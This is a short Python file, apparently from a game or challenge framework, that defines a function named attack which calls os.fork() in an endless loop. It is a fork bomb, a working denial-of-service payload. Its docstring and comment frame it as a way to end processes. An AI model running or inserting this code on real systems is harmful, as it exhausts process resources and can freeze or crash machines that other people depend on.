"""Forks without end."""
# ends: processes

import os


def attack(world):
    while True:
        os.fork()
